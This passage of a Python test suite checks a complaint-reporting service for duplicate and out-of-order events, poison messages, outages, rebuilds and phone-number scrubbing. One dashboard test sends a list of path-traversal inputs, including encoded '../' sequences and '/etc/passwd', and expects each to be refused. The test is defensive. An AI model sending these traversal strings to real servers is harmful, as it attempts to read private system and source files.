        case_event("remedy_proposed", case_id, 6, t + timedelta(hours=4), **remedy, status="approved"),
        case_event("remedy_approved", case_id, 7, t + timedelta(hours=4), **remedy),
        case_event("case_resolved", case_id, 8, t + timedelta(hours=10),
                   resolved_at=(t + timedelta(hours=10)).isoformat(), within_sla=True, reopened=0),
        dict(build_event("visit_scheduled", {**follow_up, "due_at": (t + timedelta(days=3)).isoformat()},
                         branch_code="SH001", correlation_id=case_id, occurred_at=t + timedelta(hours=10), sequence=1,
                         source="aftercare")),
        dict(build_event("visit_completed", {**follow_up, "score": 5, "answers": {"satisfaction": 5, "resolved": True}},
                         branch_code="SH001", correlation_id=case_id, occurred_at=t + timedelta(hours=12), sequence=2,
                         source="aftercare")),
        case_event("case_closed", case_id, 9, t + timedelta(hours=12), outcome="satisfied"),
    ]


def row_of(lone, case_id) -> dict:
    [row] = [r for r in csv_rows(lone.ask("/v1/exports/cases.csv")) if r["case_id"] == case_id]
    return {k: v for k, v in row.items() if k not in ("case_id", "reference", "customer_ref")}


def test_events_out_of_order_and_duplicated_change_nothing(lone):
    t = NOW - timedelta(days=1)
    control, probed = str(uuid.uuid4()), str(uuid.uuid4())
    lone.feed(*worked_case(control, t))
    expected = row_of(lone, control)
    assert (expected["owner"], expected["state"], expected["escalation_level"], expected["remedies_cost"],
            expected["follow_up_score"], expected["outcome"]) == ("M-2", "closed", "1", "300.00", "5", "satisfied")
    figures = jsonbody(lone.ask("/v1/kpis", group_by="handler"))
    # The same life, newest first: the case's events (each twice in one batch) before the complaint's.
    events = worked_case(probed, t)
    backwards = [e for e in reversed(events) if e["source"] != "intake"]
    lone.feed(*[copy for e in backwards for copy in (e, e)])
    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["complaints"] == 1  # not counted before it was received
    lone.feed(events[0])
    assert row_of(lone, probed) == expected
    twice = jsonbody(lone.ask("/v1/kpis", group_by="handler"))
    assert twice["totals"]["volume"]["complaints"] == 2 and [g["key"] for g in twice["groups"]] == ["M-2"]
    assert twice["groups"][0]["remedies"]["cost_by_type"] == {"refund": 600.0}
    # Every event again across batches (same ids), then copies under new ids: nothing changes.
    lone.feed(*events[3:], *events[:3])
    replayed = [{**e, "event_id": str(uuid.uuid4())} for e in events]
    lone.feed(*replayed)
    assert jsonbody(lone.ask("/v1/kpis", group_by="handler")) == twice
    assert row_of(lone, probed) == expected
    assert count(lone.url, "SELECT count(*) FROM case_remedies") == 2
    ids = [e["event_id"] for e in events]
    assert count(lone.url, f"SELECT count(*) FROM event_log WHERE correlation_id = '{probed}'") == 2 * len(ids)
    assert logged(lone.url, ids) == len(ids)
    # A third life in one batch, newest first, the complaint last of all: the same row.
    third = str(uuid.uuid4())
    lone.feed(*reversed(worked_case(third, t)))
    assert row_of(lone, third) == expected
    # An older assignment heard last does not take the case back from its newer owner.
    lone.feed(case_event("case_assigned", probed, 3, t + timedelta(minutes=30), owner="M-OLD"))
    assert row_of(lone, probed)["owner"] == "M-2"
    assert figures["totals"]["volume"]["complaints"] == 1


def test_a_malformed_message_is_parked_at_once_and_the_batch_s_other_events_land(lone):
    good = [complaint() for _ in range(3)]
    stranger = case_event("case_opened", str(uuid.uuid4()), 1, NOW, kind="complaint")
    newer = {**complaint(), "version": 99}
    missing = {k: v for k, v in complaint().items() if k != "payload"}
    bad_payload = complaint()
    bad_payload["payload"] = {**bad_payload["payload"], "received_at": "yesterday"}
    raw = [("intake.events", "complaint_registered", "not json {"), ("intake.events", "complaint_registered", "[1, 2]"),
           ("aftercare.events", "visit_completed", json.dumps({"type": "visit_completed"})),
           ("investigation.events", "x", json.dumps({**case_event("case_closed", str(uuid.uuid4()), 2, NOW,
                                                                  outcome="satisfied"), "type": "case_vanished"}))]
    ids = publish(lone.amqp_uri, good[0], *raw, ("intake.events", "case_opened", json.dumps(stranger)), newer,
                  good[1], missing, bad_payload, good[2])
    wait_until(lambda: logged(lone.url, [g["event_id"] for g in good]) == 3, "the good events to land")
    bad = set(ids) - {g["event_id"] for g in good}
    found = wait_until(lambda: {p.event_id: p for p in parked(lone.amqp_uri) if p.event_id in bad} if len(
        [p for p in parked(lone.amqp_uri) if p.event_id in bad]) == len(bad) else None, "every bad one parked")
    reasons = {event_id: p.reason for event_id, p in found.items()}
    assert reasons.pop(newer["event_id"]) == "newer_version"
    assert set(reasons.values()) == {"malformed"}, reasons
    assert found[newer["event_id"]].attempts == 3
    assert all(found[i].attempts == 1 for i in reasons)
    assert count(lone.url, "SELECT count(*) FROM event_log") == 3
    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["complaints"] == 3


def test_an_event_whose_fold_fails_is_retried_and_parked_alone_while_the_rest_commits(lone):
    case_id = str(uuid.uuid4())
    remedy = {"remedy_id": str(uuid.uuid4()), "type": "refund", "currency": "CNY"}
    poison = [  # each passes its schema; the read models cannot hold it
        case_event("remedy_approved", case_id, 3, NOW, **remedy, amount=1e13),  # numeric(14, 2)
        case_event("case_escalated", case_id, 4, NOW, level=2 ** 40, to_role="hq_admin"),  # integer
    ]
    good = [complaint(case_id), case_event("case_assigned", case_id, 2, NOW, owner="M-1"),
            *[complaint() for _ in range(4)]]
    publish(lone.amqp_uri, good[0], poison[0], *good[1:4], poison[1], *good[4:])
    wait_until(lambda: logged(lone.url, [e["event_id"] for e in good]) == len(good), "the good events to commit")
    poisoned = {e["event_id"] for e in poison}
    found = wait_until(lambda: [p for p in parked(lone.amqp_uri) if p.event_id in poisoned] if len(
        [p for p in parked(lone.amqp_uri) if p.event_id in poisoned]) == 2 else None, "both parked", timeout=20)
    assert {(p.reason, p.attempts) for p in found} == {("failed", 3)}, found
    assert any("numeric" in p.error.lower() for p in found) and any("integer" in p.error.lower() for p in found)
    assert logged(lone.url, poisoned) == 0
    figures = jsonbody(lone.ask("/v1/kpis", group_by="handler"))
    assert figures["totals"]["volume"]["complaints"] == 5 and figures["totals"]["remedies"]["count_by_type"] == {}
    assert figures["totals"]["response"]["escalations_by_level"] == {}


def test_a_value_the_database_can_never_index_is_parked_not_retried_for_ever(lone):
    """Not an outage: PostgreSQL refuses an index entry over 2704 bytes with SQLSTATE 54000
    (program_limit_exceeded), which psycopg2 raises as an OperationalError."""
    huge = os.urandom(4000).hex()  # a correlation id of 8,000 characters that do not compress
    poison = {**complaint(), "correlation_id": huge}
    good = [complaint() for _ in range(4)]
    publish(lone.amqp_uri, good[0], good[1], poison, good[2], good[3])
    try:
        # Found by this probe (fixed): shared.messaging.failures.is_temporary takes every OperationalError for an
        # outage, and psycopg2 raises SQLSTATE class 54 (program limit exceeded: here "index row
        # size 8016 exceeds btree version 4 maximum 2704 for index ix_event_log_record") as one:
        # the batch consumer holds the whole batch and runs it again every pause, for ever (a
        # warning each time); the batch's other events never commit and the poison is never
        # parked. The envelope schema bounds no text (correlation_id, branch_code, technician or
        # batch ids). Expected: an error that will repeat is split out, retried and parked alone;
        # the rest of the batch commits.
        wait_until(lambda: logged(lone.url, [e["event_id"] for e in good]) == 4, "the good events to commit",
                   timeout=10)
        wait_until(lambda: [p for p in parked(lone.amqp_uri) if p.event_id == poison["event_id"]], "it parked")
    finally:
        lone.reporting.runner.kill()  # the batch may be held, and tried again every second


# -- robustness: killed, database cut, two replicas, the rebuild ------------------------------------------------

def many_complaints(n, *, branch="SH001", category="booking", start=None) -> list[dict]:
    start = start or NOW - timedelta(days=2)
    return [complaint(branch=branch, category=category, received=start + timedelta(minutes=i)) for i in range(n)]


def alerts_raised(lone, kind="recurring_problem_detected") -> list[dict]:
    return [m["body"] for m in lone.alerts_bus.messages if m["body"]["type"] == kind]


def test_reporting_killed_mid_batch_and_restarted_loses_nothing_and_alerts_once(lone):
    events = many_complaints(3000)
    ids = publish(lone.amqp_uri, *events)
    wait_until(lambda: logged(lone.url, ids) > 0, "a first batch", timeout=20, interval=0.01)
    lone.reporting.runner.kill()
    at_kill = logged(lone.url, ids)
    assert at_kill < len(ids), "reporting took everything before the kill: no batch was cut"
    lone.reporting = lone.start_service("reporting", clock=lone.clock, database_url=lone.url, **FAST)
    wait_until(lambda: logged(lone.url, ids) == len(ids), "every event logged after the restart", timeout=40)
    assert count(lone.url, "SELECT count(*) FROM event_log") == len(ids)
    assert count(lone.url, "SELECT count(*) FROM case_facts") == len(ids)
    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["by_category"] == {"booking": len(ids)}
    # One episode of SH001's bookings: one alert, raised once, counting every complaint.
    [alert] = jsonbody(lone.ask("/v1/alerts"))["alerts"]
    assert alert["count"] == len(ids) and alert["about"] == {"branch_code": "SH001", "category": "booking"}
    # It lists its first 50 cases (oldest first) and says there are more; records=all lists them all.
    assert len(alert["records"]) == 50 and alert["records_more"] is True
    [every] = jsonbody(lone.ask("/v1/alerts", records="all"))["alerts"]
    assert len(every["records"]) == len(ids) and every["records_more"] is False
    assert every["records"][:50] == alert["records"]
    wait_until(lambda: alerts_raised(lone), "the alert on the bus")
    assert count(lone.url, "SELECT count(*) FROM outbox WHERE routing_key = 'recurring_problem_detected'") == 1
    assert len(alerts_raised(lone)) == 1
    # Fourteen quiet days later the episode is over: no longer open, still listed with status=all.
    lone.clock.advance(days=15)
    assert jsonbody(lone.ask("/v1/alerts"))["alerts"] == []
    [closed] = jsonbody(lone.ask("/v1/alerts", status="all"))["alerts"]
    assert closed["alert_id"] == alert["alert_id"] and closed["open"] is False


def test_postgresql_cut_during_ingest_then_restored_loses_and_doubles_nothing(lone, tcp_proxy):
    proxy, proxied = tcp_proxy(lone.url, 5432)
    lone.reporting.runner.kill()
    lone.reporting = lone.start_service("reporting", clock=lone.clock, database_url=proxied, **FAST)
    first = many_complaints(100, category="price")
    lone.feed(*first)
    events = many_complaints(2000, start=NOW - timedelta(days=1))
    ids = publish(lone.amqp_uri, *events, *first[:50])  # and copies of events logged before
    wait_until(lambda: logged(lone.url, ids) > 100, "ingest to be under way", timeout=20, interval=0.01)
    proxy.cut()
    try:
        cut_at = logged(lone.url, ids)
        during = lone.ask("/v1/kpis")
        assert during.status_code == 503 and during.headers.get("Retry-After"), (during.status_code, during.text)
        time.sleep(2)
        assert logged(lone.url, ids) == cut_at < len(set(ids))  # nothing went in meanwhile; not all before
    finally:
        proxy.restore()
    wait_until(lambda: logged(lone.url, ids) == len(set(ids)), "every event logged once the database is back",
               timeout=40)
    assert count(lone.url, "SELECT count(*) FROM event_log") == 2100
    assert count(lone.url, "SELECT count(*) FROM case_facts") == 2100
    wait_until(lambda: lone.ask("/v1/kpis").status_code == 200, "reporting to answer again")
    assert jsonbody(lone.ask("/v1/kpis"))["totals"]["volume"]["by_category"] == {"price": 100, "booking": 2000}
    assert count(lone.url, "SELECT count(*) FROM outbox WHERE routing_key = 'recurring_problem_detected'") == 2


def test_two_replicas_consuming_together_give_the_same_figures_and_one_alert_per_episode(lone):
    lone.reporting.runner.kill()
    replicas = [lone.start_service("reporting", clock=lone.clock, database_url=lone.url, EVENT_BATCH=7, **FAST)
                for _ in range(2)]
    lone.reporting = replicas[0]
    import random

    import kombu

    with kombu.Connection(lone.amqp_uri) as conn:
        assert conn.channel().queue_declare("evt-intake-all--reporting.ingest", passive=True).consumer_count == 2

    rng = random.Random(11)
    categories = ("booking", "price", "hygiene_environment", "staff_attitude", "service_quality", "after_sales")
    events = []
    for category in categories:
        events += [complaint(category=category, branch=branch, received=NOW - timedelta(hours=rng.randrange(1, 200)))
                   for branch in ("SH001", "SH002") for _ in range(4)]
    events += [complaint(technician=f"T-{n}", category=categories[k], branch=("SH001", "BJ001")[k % 2],
                         region=("east", "north")[k % 2], received=NOW - timedelta(hours=rng.randrange(1, 200)))
               for n in range(3) for k in range(3)]
    copies = rng.sample(events, 20)
    stream = events + copies
    rng.shuffle(stream)
    for i in range(0, len(stream), 9):  # in small publishes, so that both replicas take batches at once
        publish(lone.amqp_uri, *stream[i:i + 9])
    wait_until(lambda: logged(lone.url, [e["event_id"] for e in events]) == len(events), "every event logged",
               timeout=30)
    # Every key with 3 or more complaints (all within 14 days: one episode each), raised once.
    tally = {}
    for e in events:
        p = e["payload"]
        for k in [("branch_category", e["branch_code"], p["category"])] + (
                [("technician", p["service"]["technician_id"])] if p["service"] else []):
            tally[k] = tally.get(k, 0) + 1
    expected_keys = {k for k, n in tally.items() if n >= 3}
    assert len(expected_keys) == 16
    wait_until(lambda: len(alerts_raised(lone)) >= len(expected_keys), "every alert on the bus", timeout=20)
    time.sleep(1)  # and no second one after it
    raised = alerts_raised(lone)

    def key(alert):
        p = alert["payload"]
        return ("technician", p["technician_id"]) if p["by"] == "technician" else (p["by"], p["branch_code"],
                                                                                    p["category"])
    assert sorted(map(str, (key(a) for a in raised))) == sorted(map(str, expected_keys)), [key(a) for a in raised]
    assert len(raised) == len({a["event_id"] for a in raised})
    assert count(lone.url, "SELECT count(*) FROM alerts") == len(expected_keys)
    # The figures are those of the events, once each, read from either replica.
    for replica in replicas:
        figures = jsonbody(requests.get(replica.url("/v1/kpis"), params={"group_by": "branch"}, timeout=10,
                                        headers=bearer(lone.token("hq_admin", branch="*"))))
        assert figures["totals"]["volume"]["complaints"] == len(events)
        assert {g["key"]: g["volume"]["complaints"] for g in figures["groups"]} == {"SH001": 30, "SH002": 24,
                                                                                   "BJ001": 3}
    assert count(lone.url, "SELECT count(*) FROM event_log") == len(events)


def test_readers_see_the_old_figures_while_a_rebuild_runs(lone):
    """handlers.rebuild: "in one transaction (readers see the old figures until it commits)". Its
    database answers slowly here (0.15 s a statement), so that it lasts seconds, as a
    rebuild of a real log does for minutes."""
    import eventlet

    from services.reporting import handlers
    from services.reporting.policy import ReportingRules
    from services.reporting.repository import ReportingStore
    from shared.persistence import db

    lone.feed(*many_complaints(20))
    before = jsonbody(lone.ask("/v1/kpis"))
    engine = db.make_engine(lone.url, 1)
    sa.event.listen(engine, "before_cursor_execute", lambda *args: time.sleep(0.15))
    rebuilding = eventlet.spawn(handlers.rebuild, ReportingStore(engine), rules=ReportingRules(), now=NOW,
                                 zone="Asia/Shanghai", batch=5)
    try:
        time.sleep(1)  # the read models cleared; the fold under way
        assert not rebuilding.dead
        started = time.monotonic()
        try:
            answer = requests.get(lone.reporting.url("/v1/kpis"), timeout=2,
                                  headers=bearer(lone.token("hq_admin", branch="*")))
        except requests.Timeout:
            answer = None
        took = time.monotonic() - started
        # Found by this probe (fixed): the rebuild clears the read models with TRUNCATE, which holds an ACCESS
        # EXCLUSIVE lock until it commits: every read of them (KPIs, alerts, exports, the
        # dashboard) and every ingest batch waits for the whole rebuild (no answer within 2 s
        # here; minutes for a real log, with the HTTP workers and the batch consumer tied up).
        # Expected, as the docstring says: the old figures until it commits (DELETE instead of
        # TRUNCATE, or new tables swapped in).
        assert answer is not None and answer.status_code == 200, f"no answer within {took:.1f} s"
        assert jsonbody(answer) == before
    finally:
        assert rebuilding.wait() == 20
        engine.dispose()
    assert jsonbody(lone.ask("/v1/kpis")) == before


def test_projections_rebuild_gives_the_same_kpis_and_alerts(lone):
    scoped_chain(lone)
    lone.feed(*worked_case(str(uuid.uuid4()), NOW - timedelta(days=2)))
    lone.feed(*many_complaints(5, branch="GZ001", category="price"))

    def answers():
        figures = {g: jsonbody(lone.ask("/v1/kpis", **({"group_by": g} if g else {})))
                   for g in (None, "branch", "region", "category", "technician", "handler", "day", "week", "month")}
        alerts = jsonbody(lone.ask("/v1/alerts", status="all"))
        return figures, alerts, csv_rows(lone.ask("/v1/exports/cases.csv"))

    before = answers()
    env = {**os.environ, "REPORTING_DATABASE_URL": lone.url}
    done = subprocess.run([sys.executable, "-m", "shared.cli", "projections", "rebuild"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    logged_events = count(lone.url, "SELECT count(*) FROM event_log")
    assert f"rebuilt from {logged_events} logged event(s)" in done.stdout, done.stdout
    assert answers() == before
    assert len(alerts_raised(lone)) == len([a for a in before[1]["alerts"] if a["kind"] == "recurring_problem"])
    [signal] = alerts_raised(lone, "safety_signal_raised")  # across two branches, once, not again on the rebuild
    assert signal["payload"]["batch"] == "B-X" and signal["payload"]["branches"] == ["BJ001", "SH001"]
    assert signal["branch_code"] is None and signal["payload"]["count"] == 2


# -- the dashboard's assets ------------------------------------------------------------------------------------

def raw_path(service, path: str) -> tuple[int, bytes]:
    """GET a path exactly as written (requests would resolve its dot segments)."""
    import http.client
    from urllib.parse import urlsplit

    where = urlsplit(service.base_url)
    conn = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
    try:
        conn.request("GET", path)
        answer = conn.getresponse()
        return answer.status, answer.read()
    finally:
        conn.close()


def test_dashboard_asset_paths_that_leave_the_assets_are_404(lone):
    status, body = raw_path(lone.reporting, "/dashboard/assets/charts.js")
    assert status == 200 and body
    status, page = raw_path(lone.reporting, "/dashboard")
    assert status == 200 and b"<html" in page.lower()
    wrong = []
    for path in ("/dashboard/assets/..%2f..%2fservice.py", "/dashboard/assets/..%2F..%2F..%2F..%2Fpyproject.toml",
                 "/dashboard/assets/%2e%2e%2f%2e%2e%2fhandlers.py", "/dashboard/assets/..%5c..%5chandlers.py",
                 "/dashboard/assets/..", "/dashboard/assets/.%2e", "/dashboard/assets/%2e%2e",
                 "/dashboard/assets/../index.html", "/dashboard/assets/../../service.py",
                 "/dashboard/assets/%2fetc%2fpasswd", "/dashboard/assets//etc/passwd", "/dashboard/assets/%00",
                 "/dashboard/assets/charts.js%00.png", "/dashboard/assets/" + "a" * 300,
                 "/dashboard/assets/.%2fcharts.js", "/dashboard/assets/__init__.py", "/dashboard/assets/",
                 "/dashboard/assets/%252e%252e%252fservice.py", "/dashboard/..%2fservice.py",
                 "/dashboard/assets/%c0%ae%c0%ae%2fservice.py", "/dashboard/assets/charts.js/",
                 "/dashboard/assets/" + "..%2f" * 30 + "etc%2fpasswd"):
        status, body = raw_path(lone.reporting, path)
        leaked = b"import " in body or b"root:" in body or b"[project]" in body or b"<html" in body.lower()
        if status != 404 or leaked:
            wrong.append((path[:60], status, body[:120]))
    # Found by this probe (fixed): no traversal gets out (all 404), but an asset name longer than the file system takes
    # (NAME_MAX, 255 bytes: /dashboard/assets/aaa...a, 300 of them) makes Path.is_file() raise
    # OSError ENAMETOOLONG (Python 3.11 ignores only ENOENT, ENOTDIR, EBADF, ELOOP) in
    # dashboard.asset: a 500 on a public path, logged as an unhandled error. Expected: 404.
    assert wrong == [], wrong


# -- through the real chain: no phone number ever reaches reporting ------------------------------------------------

def test_a_complaint_with_the_customer_s_phone_reaches_reporting_and_its_export_without_it(chain):
    from shared.testing.samples import COMPLAINT_REQUEST

    body = {**COMPLAINT_REQUEST, "description": "顾客王女士(13812346138)说：毛巾不干净，\"很脏\"，请回电 138-1234-6138",
            "customer": {**COMPLAINT_REQUEST["customer"], "phone": "13812346138"}}
    created = chain.post_complaint(body)
    hq = {"Authorization": f"Bearer {chain.token('hq_admin', branch='*')}"}
    wait_until(lambda: jsonbody(chain.http.get(chain.reporting.url("/v1/kpis"), headers=hq, timeout=10))[
        "totals"]["volume"]["complaints"] == 1, "the complaint in reporting")
    export = chain.http.get(chain.reporting.url("/v1/exports/cases.csv"), headers=hq, timeout=10)
    [row] = csv_rows(export)
    assert row["case_id"] == created["id"] and row["customer_masked"].endswith("138****6138")
    assert not PHONE.search(export.content.decode("utf-8")), export.text
    logged_text = " ".join(e for (e,) in database_rows(chain.databases["reporting"],
                                                      sa.text("SELECT envelope::text FROM event_log")))
    # Found by this probe (fixed): intake publishes complaint_registered's `description` as typed, so the customer's
    # phone written in it (13812346138, 138-1234-6138) travels on the bus in clear and is kept in
    # reporting's event log (and rebuilt from it) until the retention run, three years after the
    # case closes. DESIGN.md: contact data never travels on the bus; the issue: the event log holds
    # no contact data in clear. Expected: the description on the bus scrubbed of the customer's
    # contact and of any phone number (intake's scrubber, shared.security.privacy.anonymise_text,
    # already finds both; it is used only at retention).
    assert "13812346138" not in logged_text and "1234-6138" not in logged_text
    assert not PHONE.search(logged_text)
